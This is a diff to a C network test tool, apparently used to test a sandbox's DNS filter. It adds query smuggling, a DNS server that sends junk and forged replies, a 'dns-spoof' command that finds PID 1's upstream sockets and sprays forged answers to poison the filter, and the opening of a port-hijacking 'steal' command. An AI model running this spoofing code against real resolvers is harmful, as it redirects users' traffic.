@@ -18,7 +18,15 @@
  *   probe exit N                       exits with status N
  *   probe hold ADDR PORT MS            keeps a TCP connection busy until it breaks
  *   probe flood ADDR PORT MS           UDP to ADDR:PORT for MS ms; counts replies
- *   probe dns NAME SERVER[#PORT] [tcp] [TYPE]  one query; prints the rcode and answers
+ *   probe dns NAME SERVER[#PORT] [udp|tcp] [TYPE] [CLASS]
+ *                                      one query; prints the rcode and answers
+ *   probe dns-smuggle NAME SERVER [tcp] a query carrying data in an extra
+ *                                      record and an unknown EDNS option
+ *   probe dns-serve ADDR PORT [delay=MS] [junk] [NAME=ADDR...]
+ *                                      a DNS server that prints each query
+ *   probe dns-spoof NAME FAKE UPSTREAM MS  forges the upstream's answers
+ *   probe steal ADDR PORT MS           binds next to a server; counts what
+ *                                      reaches it
  *   probe send [--dev IF] [--from ADDR PORT] [--tcp] [--wait MS] ADDR PORT TEXT
  *                                      sends TEXT as one datagram (or over TCP),
  *                                      from ADDR:PORT (IP(V6)_FREEBIND: any
@@ -573,51 +581,84 @@ static int cmd_flood(int argc, char **argv)
 	return 0;
 }
 
-/* DNS: one question, answers printed as "A 1.2.3.4" lines. */
-static int cmd_dns(int argc, char **argv)
+/* ---- DNS ---- */
+
+#define DNS_MSG_MAX 4096
+#define FORGED_V4 "10.77.0.20" /* the address junk and forged answers name */
+
+static void put16(unsigned char *p, unsigned v)
 {
-	if (argc < 2)
-		return 2;
-	const char *name = argv[0];
-	int tcp = argc > 2 && !strcmp(argv[2], "tcp");
-	uint16_t qtype = 1;
-	if (argc > 3)
-		qtype = !strcmp(argv[3], "AAAA") ? 28 : !strcmp(argv[3], "TXT") ? 16 : (uint16_t)atoi(argv[3]);
-	unsigned char q[600];
-	size_t n = 0;
-	uint16_t id = (uint16_t)(getpid() ^ now_ms());
-	unsigned char hdr[12] = { id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
-	memcpy(q, hdr, 12);
-	n = 12;
+	p[0] = (unsigned char)(v >> 8);
+	p[1] = (unsigned char)v;
+}
+
+static unsigned get16(const unsigned char *p)
+{
+	return (unsigned)p[0] << 8 | p[1];
+}
+
+/* Appends name ("a.b.c", its case kept) in wire form at *n. Returns -1 when
+ * a label is empty or longer than 63 bytes, or when it does not fit. */
+static int put_name(unsigned char *m, size_t *n, size_t cap, const char *name)
+{
 	const char *p = name;
 	while (*p) {
 		const char *dot = strchr(p, '.');
 		size_t l = dot ? (size_t)(dot - p) : strlen(p);
-		if (l == 0 || l > 63 || n + l + 6 > sizeof(q)) {
-			fprintf(stderr, "probe dns: bad name\n");
-			return 2;
-		}
-		q[n++] = (unsigned char)l;
-		memcpy(q + n, p, l);
-		n += l;
+		if (l == 0 || l > 63 || *n + l + 2 > cap)
+			return -1;
+		m[(*n)++] = (unsigned char)l;
+		memcpy(m + *n, p, l);
+		*n += l;
 		p += l + (dot ? 1 : 0);
 	}
-	q[n++] = 0;
-	q[n++] = qtype >> 8;
-	q[n++] = qtype & 0xff;
-	q[n++] = 0;
-	q[n++] = 1;
+	if (*n + 1 > cap)
+		return -1;
+	m[(*n)++] = 0;
+	return 0;
+}
 
+static uint16_t qtype_arg(const char *s)
+{
+	return !strcmp(s, "AAAA") ? 28 : !strcmp(s, "TXT") ? 16 : !strcmp(s, "A") ? 1
+									   : (uint16_t)atoi(s);
+}
+
+/* A query's header and question: RD set, one question, ar records in the
+ * additional section (the caller writes them). Returns its length or -1. */
+static ssize_t dns_query_head(unsigned char *q, size_t cap, uint16_t id, const char *name,
+			      uint16_t qtype, unsigned ar)
+{
+	if (cap < 12)
+		return -1;
+	memset(q, 0, 12);
+	put16(q, id);
+	q[2] = 0x01;
+	put16(q + 4, 1);
+	put16(q + 10, ar);
+	size_t n = 12;
+	if (put_name(q, &n, cap, name) < 0 || n + 4 > cap)
+		return -1;
+	put16(q + n, qtype);
+	put16(q + n + 2, 1);
+	return (ssize_t)(n + 4);
+}
+
+/* Sends q to server port 53 over UDP or TCP and reads one answer into r.
+ * Prints what went wrong and returns -1 when there is none. */
+static ssize_t dns_exchange(const char *server, bool tcp, const unsigned char *q, size_t n,
+			    unsigned char *r, size_t cap, long *ms)
+{
 	/* SERVER#PORT: a server on another port, such as the one Docker's
 	 * resolver really listens on behind its DNAT. */
-	char server[INET6_ADDRSTRLEN + 8];
-	snprintf(server, sizeof(server), "%s", argv[1]);
-	char *hash = strchr(server, '#');
+	char host[INET6_ADDRSTRLEN + 8];
+	snprintf(host, sizeof(host), "%s", server);
+	char *hash = strchr(host, '#');
 	if (hash)
 		*hash++ = '\0';
 	struct sockaddr_storage ss;
 	socklen_t len;
-	int af = make_addr(server, hash ? hash : "53", &ss, &len);
+	int af = make_addr(host, hash ? hash : "53", &ss, &len);
 	int fd = socket(af, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
 	struct timeval tv = { .tv_sec = 3 };
 	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
@@ -625,77 +666,178 @@ static int cmd_dns(int argc, char **argv)
 	if (fd < 0 || connect(fd, (struct sockaddr *)&ss, len) < 0) {
 		int e = errno;
 		printf("%s ms=%ld (%s)\n", errname(e), now_ms() - t0, strerror(e));
-		return 1;
+		return -1;
 	}
-	unsigned char r[4096];
 	ssize_t got;
 	if (tcp) {
 		unsigned char pre[2] = { n >> 8, n & 0xff };
 		if (write(fd, pre, 2) != 2 || write(fd, q, n) != (ssize_t)n) {
 			printf("%s (%s)\n", errname(errno), strerror(errno));
-			return 1;
+			close(fd);
+			return -1;
 		}
 		unsigned char lp[2];
 		if (recv(fd, lp, 2, MSG_WAITALL) != 2) {
 			printf("%s ms=%ld (%s)\n", errno ? errname(errno) : "closed", now_ms() - t0,
 			       strerror(errno));
-			return 1;
+			close(fd);
+			return -1;
 		}
-		size_t want = (size_t)(lp[0] << 8 | lp[1]);
-		if (want > sizeof(r))
-			want = sizeof(r);
+		size_t want = get16(lp);
+		if (want > cap)
+			want = cap;
 		got = recv(fd, r, want, MSG_WAITALL);
 	} else {
 		if (send(fd, q, n, 0) < 0) {
 			int e = errno;
 			printf("%s ms=%ld (%s)\n", errname(e), now_ms() - t0, strerror(e));
-			return 1;
+			close(fd);
+			return -1;
 		}
-		got = recv(fd, r, sizeof(r), 0);
+		got = recv(fd, r, cap, 0);
 	}
+	int e = errno;
+	close(fd);
+	*ms = now_ms() - t0;
 	if (got < 12) {
-		int e = errno;
-		printf("%s ms=%ld (%s)\n", got < 0 ? errname(e) : "short", now_ms() - t0,
+		printf("%s ms=%ld (%s)\n", got < 0 ? errname(e) : "short", *ms,
 		       got < 0 ? strerror(e) : "short answer");
-		return 1;
+		return -1;
 	}
-	static const char *const rcodes[] = { "NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN",
-					      "NOTIMP", "REFUSED" };
-	int rcode = r[3] & 0xf;
-	printf("%s%s ms=%ld\n", rcode < 6 ? rcodes[rcode] : "RCODE?", r[2] & 2 ? " TC" : "",
-	       now_ms() - t0);
-	/* Walk the answers: skip the question, then print A/AAAA/CNAME. */
+	return got;
+}
+
+/* Skips the name at *off (labels, then a pointer or the root). */
+static void skip_name(const unsigned char *r, size_t got, size_t *off)
+{
+	while (*off < got && r[*off] && (r[*off] & 0xc0) != 0xc0)
+		*off += r[*off] + 1u;
+	*off += *off < got && (r[*off] & 0xc0) == 0xc0 ? 2 : 1;
+}
+
+/* Walks an answer's records. With print, prints "A 1.2.3.4 ttl=N" lines;
+ * with addr (4 or 16 bytes), returns whether an A or AAAA record holds it. */
+static bool dns_records(const unsigned char *r, size_t got, bool print,
+			const unsigned char *addr, size_t alen)
+{
+	bool found = false;
 	size_t off = 12;
-	int qd = r[4] << 8 | r[5], an = r[6] << 8 | r[7];
-	for (int i = 0; i < qd && off < (size_t)got; i++) {
-		while (off < (size_t)got && r[off] && (r[off] & 0xc0) != 0xc0)
-			off += r[off] + 1u;
-		off += off < (size_t)got && (r[off] & 0xc0) == 0xc0 ? 2 : 1;
+	unsigned qd = get16(r + 4), an = get16(r + 6);
+	for (unsigned i = 0; i < qd && off < got; i++) {
+		skip_name(r, got, &off);
 		off += 4;
 	}
-	for (int i = 0; i < an && off + 10 <= (size_t)got; i++) {
-		while (off < (size_t)got && r[off] && (r[off] & 0xc0) != 0xc0)
-			off += r[off] + 1u;
-		off += off < (size_t)got && (r[off] & 0xc0) == 0xc0 ? 2 : 1;
-		if (off + 10 > (size_t)got)
+	for (unsigned i = 0; i < an && off + 10 <= got; i++) {
+		skip_name(r, got, &off);
+		if (off + 10 > got)
 			break;
-		int type = r[off] << 8 | r[off + 1];
-		unsigned ttl = (unsigned)r[off + 4] << 24 | r[off + 5] << 16 | r[off + 6] << 8 | r[off + 7];
-		size_t rdlen = (size_t)(r[off + 8] << 8 | r[off + 9]);
+		unsigned type = get16(r + off);
+		unsigned ttl = (unsigned)r[off + 4] << 24 | r[off + 5] << 16 | r[off + 6] << 8 |
+			       r[off + 7];
+		size_t rdlen = get16(r + off + 8);
 		off += 10;
-		if (off + rdlen > (size_t)got)
+		if (off + rdlen > got)
 			break;
+		if (addr && rdlen == alen && (type == 1 || type == 28) &&
+		    memcmp(r + off, addr, alen) == 0)
+			found = true;
 		char a[INET6_ADDRSTRLEN];
-		if (type == 1 && rdlen == 4)
+		if (!print)
+			;
+		else if (type == 1 && rdlen == 4)
 			printf("A %s ttl=%u\n", inet_ntop(AF_INET, r + off, a, sizeof(a)), ttl);
 		else if (type == 28 && rdlen == 16)
 			printf("AAAA %s ttl=%u\n", inet_ntop(AF_INET6, r + off, a, sizeof(a)), ttl);
 		else if (type == 5)
 			printf("CNAME ttl=%u\n", ttl);
 		else
-			printf("TYPE%d ttl=%u\n", type, ttl);
+			printf("TYPE%u ttl=%u\n", type, ttl);
 		off += rdlen;
 	}
+	return found;
+}
+
+/* Prints an answer's rcode, then its records; returns the rcode. */
+static int dns_print(const unsigned char *r, size_t got, long ms)
+{
+	static const char *const rcodes[] = { "NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN",
+					      "NOTIMP", "REFUSED" };
+	int rcode = r[3] & 0xf;
+	printf("%s%s ms=%ld\n", rcode < 6 ? rcodes[rcode] : "RCODE?", r[2] & 2 ? " TC" : "", ms);
+	dns_records(r, got, true, NULL, 0);
+	return rcode;
+}
+
+/* DNS: one question, answers printed as "A 1.2.3.4" lines. */
+static int cmd_dns(int argc, char **argv)
+{
+	if (argc < 2)
+		return 2;
+	bool tcp = argc > 2 && !strcmp(argv[2], "tcp");
+	uint16_t qtype = argc > 3 ? qtype_arg(argv[3]) : 1;
+	uint16_t qclass = argc > 4 ? (!strcmp(argv[4], "CH") ? 3 : (uint16_t)atoi(argv[4])) : 1;
+	unsigned char q[600], r[DNS_MSG_MAX];
+	ssize_t n = dns_query_head(q, sizeof(q), (uint16_t)(getpid() ^ now_ms()), argv[0], qtype, 0);
+	if (n < 0) {
+		fprintf(stderr, "probe dns: bad name\n");
+		return 2;
+	}
+	put16(q + n - 2, qclass);
+	long ms;
+	ssize_t got = dns_exchange(argv[1], tcp, q, (size_t)n, r, sizeof(r), &ms);
+	if (got < 0)
+		return 1;
+	return dns_print(r, (size_t)got, ms) == 0 ? 0 : 3;
+}
+
+/* Query smuggling: a query for NAME (its case kept) that also carries data
+ * in a record of the additional section ("SMUGGLED-AR") and in an EDNS
+ * option of no known code ("SMUGGLED-OPT"). Prints the answer as `probe
+ * dns` does, then whether it kept the query's ID and question as sent. */
+static int cmd_dns_smuggle(int argc, char **argv)
+{
+	if (argc < 2)
+		return 2;
+	bool tcp = argc > 2 && !strcmp(argv[2], "tcp");
+	static const char ar_text[] = "SMUGGLED-AR", opt_text[] = "SMUGGLED-OPT";
+	const size_t al = sizeof(ar_text) - 1, ol = sizeof(opt_text) - 1;
+	unsigned char q[600], r[DNS_MSG_MAX];
+	uint16_t id = (uint16_t)(getpid() ^ now_ms());
+	ssize_t head = dns_query_head(q, sizeof(q), id, argv[0], 1, 2);
+	size_t n = (size_t)head;
+	if (head < 0 || put_name(q, &n, sizeof(q), "smuggled.example") < 0 ||
+	    n + 11 + al + 15 + ol > sizeof(q)) {
+		fprintf(stderr, "probe dns-smuggle: bad name\n");
+		return 2;
+	}
+	unsigned char *p = q + n; /* TXT, class IN, TTL 0 */
+	put16(p, 16);
+	put16(p + 2, 1);
+	memset(p + 4, 0, 4);
+	put16(p + 8, (unsigned)(1 + al));
+	p[10] = (unsigned char)al;
+	memcpy(p + 11, ar_text, al);
+	n += 11 + al;
+	p = q + n; /* OPT: the root, UDP size 1232, option 65001 */
+	p[0] = 0;
+	put16(p + 1, 41);
+	put16(p + 3, 1232);
+	memset(p + 5, 0, 4);
+	put16(p + 9, (unsigned)(4 + ol));
+	put16(p + 11, 65001);
+	put16(p + 13, (unsigned)ol);
+	memcpy(p + 15, opt_text, ol);
+	n += 15 + ol;
+
+	long ms;
+	ssize_t got = dns_exchange(argv[1], tcp, q, n, r, sizeof(r), &ms);
+	if (got < 0)
+		return 1;
+	int rcode = dns_print(r, (size_t)got, ms);
+	printf("%s\n", get16(r) == id ? "id as sent" : "id changed");
+	bool same = got >= head && get16(r + 4) == 1 &&
+		    memcmp(r + 12, q + 12, (size_t)head - 12) == 0;
+	printf("%s\n", same ? "question as sent" : "question changed");
 	return rcode == 0 ? 0 : 3;
 }
 
@@ -929,6 +1071,503 @@ static int cmd_mcast(int argc, char **argv)
 					     &m6, sizeof(m6)));
 	/* Hold the memberships while the kernel sends its reports. */
 	usleep(500000);
+	return 0;
+}
+
+/* ---- a DNS server ---- */
+
+struct dns_rec {
+	char name[256];
+	int af;
+	unsigned char addr[16];
+};
+
+/* The answer to the query q from the table: the header and question as
+ * received (QR and RA set, RD kept, no additional records), the matching
+ * A or AAAA records, NXDOMAIN for a name the table does not have. Sets
+ * *qend to where the question ends. Returns its length, or -1 for a
+ * message that is not a query with one question. */
+static ssize_t serve_answer(const struct dns_rec *recs, int nrec, const unsigned char *q,
+			    size_t qlen, unsigned char *r, size_t cap, size_t *qend)
+{
+	if (qlen < 12 || (q[2] & 0x80) || get16(q + 4) != 1)
+		return -1;
+	char name[256];
+	size_t off = 12, nl = 0;
+	while (off < qlen && q[off]) {
+		size_t l = q[off];
+		if (l > 63 || off + 1 + l >= qlen || nl + l + 2 > sizeof(name))
+			return -1;
+		if (nl)
+			name[nl++] = '.';
+		memcpy(name + nl, q + off + 1, l);
+		nl += l;
+		off += 1 + l;
+	}
+	if (off + 5 > qlen)
+		return -1;
+	name[nl] = '\0';
+	unsigned qtype = get16(q + off + 1);
+	off += 5;
+	if (off + (size_t)nrec * 28 > cap)
+		return -1;
+	*qend = off;
+	memcpy(r, q, off);
+	r[2] = (unsigned char)(0x80 | (q[2] & 0x01));
+	r[3] = 0x80;
+	memset(r + 6, 0, 6);
+	size_t n = off;
+	unsigned an = 0;
+	bool known = false;
+	for (int i = 0; i < nrec; i++) {
+		if (strcasecmp(recs[i].name, name) != 0)
+			continue;
+		known = true;
+		size_t alen = recs[i].af == AF_INET ? 4 : 16;
+		if (qtype != (alen == 4 ? 1u : 28u))
+			continue;
+		put16(r + n, 0xc00c);
+		put16(r + n + 2, qtype);
+		put16(r + n + 4, 1);
+		put16(r + n + 6, 0);
+		put16(r + n + 8, 60);
+		put16(r + n + 10, (unsigned)alen);
+		memcpy(r + n + 12, recs[i].addr, alen);
+		n += 12 + alen;
+		an++;
+	}
+	put16(r + 6, an);
+	if (!known)
+		r[3] |= 3;
+	return (ssize_t)n;
+}
+
+#define JUNK_MAX 8
+#define JUNK_LEN 600
+
+/* Messages that are not the answer r (rn bytes, its question ending at
+ * qend), as a confused or hostile server might send before it: a short
+ * one, then answers naming FORGED_V4 with another ID, another type,
+ * another name, QR clear, two questions, and an answer section cut short.
+ * Returns how many. */
+static int serve_junk(const unsigned char *r, size_t qend, unsigned char j[][JUNK_LEN],
+		      size_t *jl)
+{
+	unsigned char f[JUNK_LEN];
+	if (qend + 16 + 12 > sizeof(f) || qend < 17)
+		return 0;
+	memcpy(f, r, qend);
+	put16(f + 6, 1);
+	put16(f + 8, 0);
+	put16(f + 10, 0);
+	f[3] &= 0xf0;
+	put16(f + qend, 0xc00c);
+	put16(f + qend + 2, 1);
+	put16(f + qend + 4, 1);
+	put16(f + qend + 6, 0);
+	put16(f + qend + 8, 300);
+	put16(f + qend + 10, 4);
+	inet_pton(AF_INET, FORGED_V4, f + qend + 12);
+	size_t fl = qend + 16;
+	int n = 0;
+	const unsigned char shortmsg[] = { r[0], r[1], 0x81, 0x80, 0xde, 0xad, 0x00 };
+	memcpy(j[n], shortmsg, sizeof(shortmsg));
+	jl[n++] = sizeof(shortmsg);
+	for (int k = 0; k < 6; k++) {
+		memcpy(j[n], f, fl);
+		jl[n] = fl;
+		switch (k) {
+		case 0: put16(j[n], get16(f) ^ 0x5555); break;                    /* ID */
+		case 1: put16(j[n] + qend - 4, get16(f + qend - 4) == 16 ? 1 : 16); break;
+		case 2: j[n][13] ^= 0x01; break;                                   /* name */
+		case 3: j[n][2] &= 0x7f; break;                                    /* QR */
+		case 4: put16(j[n] + 4, 2); break;                                 /* QDCOUNT */
+		case 5:                                                            /* cut */
+			put16(j[n] + 6, 2);
+			memcpy(j[n] + fl, f + qend, 8);
+			jl[n] = fl + 8;
+			break;
+		}
+		n++;
+	}
+	return n;
+}
+
+static void hex_line(const char *what, const unsigned char *m, size_t n)
+{
+	printf("query %s ", what);
+	for (size_t i = 0; i < n; i++)
+		printf("%02x", m[i]);
+	printf("\n");
+}
+
+struct delayed {
+	long due;
+	struct sockaddr_storage to;
+	socklen_t tolen;
+	size_t len, qend;
+	unsigned char r[DNS_MSG_MAX];
+};
+
+static void serve_udp_send(int fd, const struct delayed *d, bool junk)
+{
+	unsigned char j[JUNK_MAX][JUNK_LEN];
+	size_t jl[JUNK_MAX];
+	int nj = junk ? serve_junk(d->r, d->qend, j, jl) : 0;
+	for (int i = 0; i < nj; i++)
+		sendto(fd, j[i], jl[i], 0, (const struct sockaddr *)&d->to, d->tolen);
+	sendto(fd, d->r, d->len, 0, (const struct sockaddr *)&d->to, d->tolen);
+}
+
+/* One query on a new TCP connection, answered (after the junk, each with
+ * its length prefix), then the connection is closed. */
+static void serve_tcp(int c, const struct dns_rec *recs, int nrec, int delay, bool junk)
+{
+	struct timeval tv = { .tv_sec = 2 };
+	setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+	unsigned char lp[2], q[DNS_MSG_MAX], r[DNS_MSG_MAX + 2];
+	if (recv(c, lp, 2, MSG_WAITALL) != 2)
+		return;
+	size_t len = get16(lp);
+	if (len > sizeof(q) || recv(c, q, len, MSG_WAITALL) != (ssize_t)len)
+		return;
+	hex_line("tcp", q, len);
+	size_t qend;
+	ssize_t n = serve_answer(recs, nrec, q, len, r + 2, sizeof(r) - 2, &qend);
+	if (n < 0)
+		return;
+	usleep((useconds_t)delay * 1000);
+	unsigned char j[JUNK_MAX][JUNK_LEN];
+	size_t jl[JUNK_MAX];
+	int nj = junk ? serve_junk(r + 2, qend, j, jl) : 0;
+	for (int i = 0; i < nj; i++) {
+		unsigned char pre[2] = { (unsigned char)(jl[i] >> 8), (unsigned char)jl[i] };
+		if (send(c, pre, 2, MSG_NOSIGNAL) != 2 || send(c, j[i], jl[i], MSG_NOSIGNAL) < 0)
+			return;
+	}
+	put16(r, (unsigned)n);
+	if (send(c, r, (size_t)n + 2, MSG_NOSIGNAL) < 0)
+		return;
+}
+
+static int cmd_dns_serve(int argc, char **argv)
+{
+	if (argc < 2)
+		return 2;
+	enum { RECS = 64, DELAYED = 128 };
+	static struct dns_rec recs[RECS];
+	static struct delayed dq[DELAYED];
+	int nrec = 0, delay = 0;
+	bool junk = false;
+	for (int i = 2; i < argc; i++) {
+		const char *eq = strchr(argv[i], '=');
+		if (!strncmp(argv[i], "delay=", 6)) {
+			delay = atoi(argv[i] + 6);
+		} else if (!strcmp(argv[i], "junk")) {
+			junk = true;
+		} else if (eq && nrec < RECS && (size_t)(eq - argv[i]) < sizeof(recs[0].name)) {
+			struct dns_rec *d = &recs[nrec++];
+			snprintf(d->name, sizeof(d->name), "%.*s", (int)(eq - argv[i]), argv[i]);
+			d->af = strchr(eq, ':') ? AF_INET6 : AF_INET;
+			if (inet_pton(d->af, eq + 1, d->addr) != 1) {
+				fprintf(stderr, "probe dns-serve: %s is not an address\n", eq + 1);
+				return 2;
+			}
+		} else {
+			fprintf(stderr, "probe dns-serve: what is %s?\n", argv[i]);
+			return 2;
+		}
+	}
+	struct sockaddr_storage ss;
+	socklen_t len;
+	int af = make_addr(argv[0], argv[1], &ss, &len);
+	int u = socket(af, SOCK_DGRAM, 0), t = socket(af, SOCK_STREAM, 0);
+	int one = 1;
+	if (u < 0 || t < 0 || setsockopt(t, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
+	    bind(u, (struct sockaddr *)&ss, len) < 0 || bind(t, (struct sockaddr *)&ss, len) < 0 ||
+	    listen(t, 64) < 0) {
+		fprintf(stderr, "probe dns-serve %s %s: %s\n", argv[0], argv[1], strerror(errno));
+		return 1;
+	}
+	signal(SIGPIPE, SIG_IGN);
+	printf("serving\n");
+	for (;;) {
+		long now = now_ms(), next = -1;
+		for (int i = 0; i < DELAYED; i++) {
+			if (!dq[i].due)
+				continue;
+			if (dq[i].due <= now) {
+				serve_udp_send(u, &dq[i], junk);
+				dq[i].due = 0;
+			} else if (next < 0 || dq[i].due < next) {
+				next = dq[i].due;
+			}
+		}
+		struct pollfd p[2] = { { .fd = u, .events = POLLIN }, { .fd = t, .events = POLLIN } };
+		if (poll(p, 2, next < 0 ? -1 : (int)(next - now)) < 0 && errno != EINTR)
+			return 1;
+		if (p[0].revents & POLLIN) {
+			unsigned char q[DNS_MSG_MAX];
+			struct delayed d;
+			d.tolen = sizeof(d.to);
+			ssize_t n = recvfrom(u, q, sizeof(q), 0, (struct sockaddr *)&d.to, &d.tolen);
+			if (n >= 12 && !(q[2] & 0x80)) {
+				hex_line("udp", q, (size_t)n);
+				ssize_t rn = serve_answer(recs, nrec, q, (size_t)n, d.r, sizeof(d.r),
+							  &d.qend);
+				int slot = -1;
+				for (int i = 0; i < DELAYED && slot < 0 && delay; i++)
+					if (!dq[i].due)
+						slot = i;
+				if (rn > 0) {
+					d.len = (size_t)rn;
+					d.due = now_ms() + delay;
+					if (slot >= 0)
+						dq[slot] = d;
+					else
+						serve_udp_send(u, &d, junk);
+				}
+			}
+		}
+		if (p[1].revents & POLLIN) {
+			int c = accept(t, NULL, NULL);
+			if (c >= 0) {
+				serve_tcp(c, recs, nrec, delay, junk);
+				close(c);
+			}
+		}
+	}
+}
+
+/* ---- attacks on the DNS filter ---- */
+
+/* A UDP socket of uid 0 that may be PID 1's upstream socket, from
+ * /proc/net/udp or udp6: on a port other than 53, unconnected or
+ * connected to the upstream's port 53. */
+struct target {
+	int af;
+	unsigned char addr[16];
+	uint16_t port;
+	uint16_t next_id;
+};
+
+static void hex_addr(const char *hex, int af, unsigned char *out)
+{
+	/* Each 32-bit word as the kernel holds it, printed as a number. */
+	for (int w = 0; w < (af == AF_INET ? 1 : 4); w++) {
+		char word[9];
+		memcpy(word, hex + 8 * w, 8);
+		word[8] = '\0';
+		uint32_t v = (uint32_t)strtoul(word, NULL, 16);
+		memcpy(out + 4 * w, &v, 4);
+	}
+}
+
+static int find_targets(int af, const unsigned char *up, const unsigned char *alt,
+			struct target *t, int n, int max)
+{
+	FILE *f = fopen(af == AF_INET ? "/proc/net/udp" : "/proc/net/udp6", "r");
+	if (!f)
+		return n;
+	size_t alen = af == AF_INET ? 4 : 16;
+	char line[512];
+	while (fgets(line, sizeof(line), f) && n < max) {
+		char local[64], rem[64];
+		unsigned uid, lport, rport;
+		if (sscanf(line, " %*d: %40[0-9A-F]:%x %40[0-9A-F]:%x %*x %*x:%*x %*x:%*x %*x %u",
+			   local, &lport, rem, &rport, &uid) != 5 || strlen(local) != alen * 2)
+			continue;
+		unsigned char la[16], ra[16];
+		hex_addr(local, af, la);
+		hex_addr(rem, af, ra);
+		static const unsigned char zero[16];
+		bool unconnected = rport == 0 && !memcmp(ra, zero, alen);
+		bool to_up = rport == 53 && !memcmp(ra, up, alen);
+		if (uid != 0 || lport == 53 || !(unconnected || to_up))
+			continue;
+		bool known = false;
+		for (int i = 0; i < n; i++)
+			known |= t[i].af == af && t[i].port == lport;
+		if (known)
+			continue;
+		t[n].af = af;
+		t[n].port = (uint16_t)lport;
+		t[n].next_id = 0;
+		memcpy(t[n].addr, memcmp(la, zero, alen) ? la : alt, alen);
+		n++;
+	}
+	fclose(f);
+	return n;
+}
+
+/* The forger of the upstream's answers: takes the upstream's address and
+ * port 53 (with IP_FREEBIND or IPV6_FREEBIND when it is not local), keeps 64
+ * queries for NAME in flight through palisade's DNS filter, finds PID 1's
+ * upstream sockets in /proc/net/udp*, and sprays each with answers naming
+ * FAKE under every ID. Prints "poisoned" when an answer of the filter
+ * named FAKE, else "not-poisoned", with counts: datagrams tried, and sent
+ * (the others refused by the kernel, whose last error is shown). */
+static int cmd_dns_spoof(int argc, char **argv)
+{
+	if (argc < 4)
+		return 2;
+	const char *name = argv[0];
+	long end = now_ms() + atol(argv[3]);
+	srandom((unsigned)(getpid() ^ now_ms()));
+	unsigned char fake[16];
+	int faf = strchr(argv[1], ':') ? AF_INET6 : AF_INET;
+	size_t flen = faf == AF_INET ? 4 : 16;
+	uint16_t qtype = faf == AF_INET ? 1 : 28;
+	if (inet_pton(faf, argv[1], fake) != 1)
+		return 2;
+	struct sockaddr_storage us;
+	socklen_t ul;
+	int uaf = make_addr(argv[2], "53", &us, &ul);
+	unsigned char up[16];
+	memcpy(up, uaf == AF_INET ? (void *)&((struct sockaddr_in *)&us)->sin_addr
+				  : (void *)&((struct sockaddr_in6 *)&us)->sin6_addr,
+	       uaf == AF_INET ? 4 : 16);
+	int fs = socket(uaf, SOCK_DGRAM, 0), one = 1;
+	if (fs < 0 || (uaf == AF_INET ? setsockopt(fs, IPPROTO_IP, IP_FREEBIND, &one, sizeof(one))
+				      : setsockopt(fs, IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof(one))) < 0 ||
+	    bind(fs, (struct sockaddr *)&us, ul) < 0) {
+		printf("error bind %s port 53: %s\n", argv[2], strerror(errno));
+		return 1;
+	}
+	/* Where a socket bound to the unspecified address is reached without
+	 * meeting the connection tracking entry of its own query (whose reply
+	 * direction is the upstream to the address the query left from): a
+	 * local address it does not send from. */
+	unsigned char alt[16] = { 0 };
+	if (uaf == AF_INET)
+		inet_pton(AF_INET, "127.0.0.2", alt);
+	else
+		alt[15] = 1;
+	/* The forged answer: ID first, filled in for each datagram. */
+	unsigned char f[600];
+	ssize_t head = dns_query_head(f, sizeof(f) - 40, 0, name, qtype, 0);
+	if (head < 0)
+		return 2;
+	size_t fl = (size_t)head;
+	f[2] = 0x81;
+	f[3] = 0x80;
+	put16(f + 6, 1);
+	put16(f + fl, 0xc00c);
+	put16(f + fl + 2, qtype);
+	put16(f + fl + 4, 1);
+	put16(f + fl + 6, 0);
+	put16(f + fl + 8, 300);
+	put16(f + fl + 10, (unsigned)flen);
+	memcpy(f + fl + 12, fake, flen);
+	fl += 12 + flen;
+
+	struct sockaddr_storage ls;
+	socklen_t ll;
+	make_addr("127.0.0.1", "53", &ls, &ll);
+	int qs = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+	if (qs < 0 || connect(qs, (struct sockaddr *)&ls, ll) < 0) {
+		printf("error query socket: %s\n", strerror(errno));
+		return 1;
+	}
+	enum { TARGETS = 1024, CHUNK = 256, INFLIGHT = 64 };
+	static struct target t[TARGETS];
+	unsigned long queries = 0, answers = 0, tried = 0, forged = 0;
+	int ports = 0, last_err = 0;
+	bool poisoned = false;
+	while (now_ms() < end && !poisoned) {
+		while (queries - answers < INFLIGHT) {
+			unsigned char q[600];
+			ssize_t n = dns_query_head(q, sizeof(q), (uint16_t)random(), name, qtype, 0);
+			if (n < 0 || send(qs, q, (size_t)n, 0) < 0)
+				break;
+			queries++;
+		}
+		unsigned char r[DNS_MSG_MAX];
+		ssize_t got;
+		while ((got = recv(qs, r, sizeof(r), 0)) >= 12) {
+			answers++;
+			if (dns_records(r, (size_t)got, false, fake, flen))
+				poisoned = true;
+		}
+		int nt = find_targets(uaf, up, alt, t, 0, TARGETS);
+		if (nt > ports)
+			ports = nt;
+		for (int i = 0; i < nt; i++) {
+			struct sockaddr_storage to;
+			socklen_t tl;
+			char a[INET6_ADDRSTRLEN], port[8];
+			inet_ntop(t[i].af, t[i].addr, a, sizeof(a));
+			snprintf(port, sizeof(port), "%u", t[i].port);
+			make_addr(a, port, &to, &tl);
+			uint16_t id0 = (uint16_t)random();
+			for (int k = 0; k < CHUNK; k++) {
+				put16(f, (uint16_t)(id0 + k * 257));
+				tried++;
+				if (sendto(fs, f, fl, 0, (struct sockaddr *)&to, tl) > 0)
+					forged++;
+				else
+					last_err = errno;
+			}
+		}
+		if (nt == 0)
+			usleep(1000);
+	}
+	printf("%s queries=%lu answers=%lu tried=%lu forged=%lu ports=%d%s%s\n",
+	       poisoned ? "poisoned" : "not-poisoned", queries, answers, tried, forged, ports,
+	       last_err ? " error=" : "", last_err ? strerrorname_np(last_err) : "");
+	return poisoned ? 0 : 1;
+}
+
+/* Tries to bind ADDR PORT next to whoever serves there: UDP and TCP, each
+ * with SO_REUSEADDR, SO_REUSEPORT and both; prints "udp reuseaddr: bound"
+ * or the error of each. Then counts, for MS ms, the datagrams and
+ * connections that reach the sockets it got: "received N". */
+static int cmd_steal(int argc, char **argv)
+{
+	if (argc < 3)
